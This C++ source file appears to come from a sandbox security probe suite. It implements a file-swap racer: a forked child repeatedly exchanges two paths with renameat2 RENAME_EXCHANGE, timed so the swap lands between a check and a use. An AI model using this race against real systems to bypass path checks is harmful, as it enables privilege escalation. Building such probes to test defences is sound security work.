#include "probe/attack/exchanger.h"

#include <fcntl.h>
#include <linux/fs.h>
#include <sys/syscall.h>

#include <csignal>

#include "launcher/sys/privilege.h"
#include "launcher/sys/self.h"
#include "launcher/sys/signals.h"
#include "probe/attack/payloads/call.h"

namespace taskcell::attack {
namespace {

constexpr uint64_t kLongestUs = 120'000'000;
constexpr int64_t kRestNs = 50'000;  // about as long as a look takes: it meets both

[[noreturn]] void Exchange(const char* first, const char* second) {
  (void)sys::SetParentDeathSignal(SIGKILL);  // ignoring: it ends by itself
  const uint64_t end_us = sys::MonotonicUs() + kLongestUs;
  const struct timespec rest = {0, kRestNs};
  while (sys::MonotonicUs() < end_us) {
    int64_t done = Call(SYS_renameat2, AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE);
    if (done == -ENOENT) break;  // the names went away
    (void)Call(SYS_nanosleep, &rest, 0);
  }
  sys::ExitNow(0);
}

}  // namespace

Result<Exchanger> Exchanger::Start(const std::string& first, const std::string& second) {
  sys::Cloned cloned = TRY(sys::CloneProcess(0));
  if (cloned.in_child) Exchange(first.c_str(), second.c_str());
  return Exchanger(std::move(cloned.child));
}

}  // namespace taskcell::attack
